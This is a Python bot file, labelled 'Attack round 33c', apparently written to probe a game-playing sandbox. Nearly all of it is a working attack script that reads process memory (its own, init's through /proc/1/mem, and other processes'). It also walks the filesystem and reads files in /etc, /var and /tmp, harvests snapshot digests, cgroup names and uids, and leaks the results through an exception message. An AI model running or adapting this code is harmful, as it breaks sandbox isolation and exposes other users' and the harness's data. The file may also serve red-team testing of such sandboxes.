"""Attack round 33c: scans ALL the memory it can read (every mapping in /proc/self/maps when that is readable,
else a wide walk around many anchors), reads its init's memory (/proc/1/mem) when it can, lists its descriptors and
the processes it sees. Reports, in ``RuntimeError("SCAN <json>")``, every 64-hex string (snapshot digests), every
``bot-<pid>-<n>`` cgroup name, every ``"uid": N`` and ``bot_<name>`` folder it found. Reads safely: each page is first
written into a pipe (EFAULT, not a crash, where nothing is mapped)."""
import ctypes
import json
import os
import re
import stat

PATTERNS = {
    "digests": re.compile(rb"(?<![0-9a-f])([0-9a-f]{64})(?![0-9a-f])"),
    "cgroups": re.compile(rb"(bot-\d+-\d+)"),
    "uids": re.compile(rb'"?uid"?[:=] ?(\d{3,6})'),
    "dirs": re.compile(rb"/bot_([a-z][a-z_0-9]*)/"),
}
PAGE = 4096
CHUNK = 64 * PAGE


def _scan_bytes(data, out):
    for key, pattern in PATTERNS.items():
        for match in pattern.finditer(data):
            out[key].add(match.group(1).decode())


def scan_self(out):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
    libc.write.restype = ctypes.c_ssize_t
    pipe = os.pipe()

    def readable(address, size):
        if libc.write(pipe[1], ctypes.c_void_p(address), size) != size:
            return False
        os.read(pipe[0], size)
        return True

    spans = []
    try:
        with open("/proc/self/maps") as maps:
            for line in maps:
                parts = line.split()
                if parts[1].startswith("r") and not line.rstrip().endswith(("[vvar]", "[vsyscall]", "[vvar_vclock]")):
                    start, end = (int(x, 16) for x in parts[0].split("-"))
                    spans.append((start, end))
        out["how"].add("m")
    except OSError:
        out["how"].add("M")
        # wide walk around anchors: 256 MiB each way, stops after 4096 unmapped pages in a row
        anchors = [ctypes.addressof((ctypes.c_char * 3000).from_buffer(bytearray(3000)))]
        anchors += [id(x) for x in (os.sep, json.dumps, (1, 2), 1.5, re.compile, scan_self, ctypes.CDLL)]
        anchors += [ctypes.cast(libc.write, ctypes.c_void_p).value, ctypes.addressof(ctypes.c_int(0))]
        for a in anchors:
            a &= ~(PAGE - 1)
            for step in (-PAGE, PAGE):
                address, misses = a, 0
                while misses < 4096 and abs(address - a) < (256 << 20):
                    spans.append((address, address + PAGE)) if readable(address, PAGE) else None
                    misses = 0 if spans and spans[-1][0] == address else misses + 1
                    address += step
    seen = set()
    for start, end in spans:
        address = start
        while address < end:
            if address in seen:
                address += PAGE
                continue
            seen.add(address)
            size = min(CHUNK, end - address)
            if readable(address, PAGE) and (size == PAGE or readable(address, size)):
                _scan_bytes(ctypes.string_at(address, size), out)
            address += size
    out["bytes"] = [len(seen)]
    os.close(pipe[0])
    os.close(pipe[1])


def scan_pid(pid, out):
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
            n = 0
            for line in maps:
                span, perms = line.split()[:2]
                if not perms.startswith("r") or line.rstrip().endswith(("[vvar]", "[vsyscall]", "[vvar_vclock]")):
                    continue
                start, end = (int(x, 16) for x in span.split("-"))
                try:
                    mem.seek(start)
                    data = mem.read(end - start)
                except OSError:
                    continue
                n += len(data)
                sub = {k: set() for k in PATTERNS}
                _scan_bytes(data, sub)
                for k, v in sub.items():
                    out[k].update(v)
            out["how"].add(f"{pid}:R{n}")
    except OSError as exc:
        out["how"].add(f"{pid}:E{exc.errno}")


def descriptors():
    fds = []
    for fd in range(0, 1024):
        try:
            st = os.fstat(fd)
        except OSError:
            continue
        kind = ("sock" if stat.S_ISSOCK(st.st_mode) else "fifo" if stat.S_ISFIFO(st.st_mode)
                else "chr" if stat.S_ISCHR(st.st_mode) else "reg" if stat.S_ISREG(st.st_mode)
                else "dir" if stat.S_ISDIR(st.st_mode) else "other")
        fds.append(f"{fd}:{kind}")
    return fds


def walk_fs(out):
    """Every name it can see in its filesystem (and small files' contents) through the same patterns."""
    n = 0
    for top in ("/", "/bot", "/tmp", "/run", "/etc", "/var", "/home", "/root", "/dev/shm", "/mnt", os.getcwd()):
        try:
            n += len(os.listdir(top))
            out["fstops"].add(top)
        except OSError:
            continue
        for root, dirs, files in os.walk(top, onerror=lambda e: None):
            if root.startswith(("/proc", "/sys", "/dev")) or n > 60000:
                dirs[:] = []
                continue
            for name in dirs + files:
                n += 1
                _scan_bytes(os.path.join(root, name).encode(), out)
            for name in files:
                path = os.path.join(root, name)
                if root.startswith(("/bot", "/tmp", "/run", "/etc", "/var")):
                    try:
                        with open(path, "rb") as f:
                            _scan_bytes(f.read(1 << 20), out)
                    except OSError:
                        pass
    out["fs"] = [n]


def scan():
    out = {k: set() for k in PATTERNS}
    out["how"] = set()
    scan_self(out)
    fs = {k: set() for k in PATTERNS}
    fs["fstops"] = out["fstops"] = set()
    walk_fs(fs)
    fs.pop("fstops")
    out["fsn"] = fs.pop("fs")
    for k, v in fs.items():
        out[k].update(v)
    try:
        pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    except OSError:
        pids = [1]
        out["how"].add("P")
    for pid in pids:
        if pid != os.getpid():
            scan_pid(pid, out)
    result = {"me": [os.getpid(), os.getuid()], "fds": descriptors(), "pids": pids[:8], "bytes": out.pop("bytes"),
              "fsn": out.pop("fsn")}
    result.update({k: sorted(v) for k, v in out.items()})
    result["digests"] = [d[:12] for d in result["digests"]]
    live = []
    for pid in range(1, 5000):  # (no /proc: which pids answer a null signal, EPERM included)
        try:
            os.kill(pid, 0)
            live.append(pid)
        except PermissionError:
            live.append(-pid)
        except OSError:
            pass
    for noisy in ("how", "fstops", "pids"):  # (seen: no /proc, no maps, only /bot listable: kept out for length)
        result.pop(noisy, None)
    result = {"live": live[:6], **result}  # (first: the failure detail is cut at ~500 characters)
    return result


class Bot:
    def __init__(self, game, seat, seed):
        self.found = scan()

    def step(self, state, limit):
        raise RuntimeError("SCAN " + json.dumps(self.found))
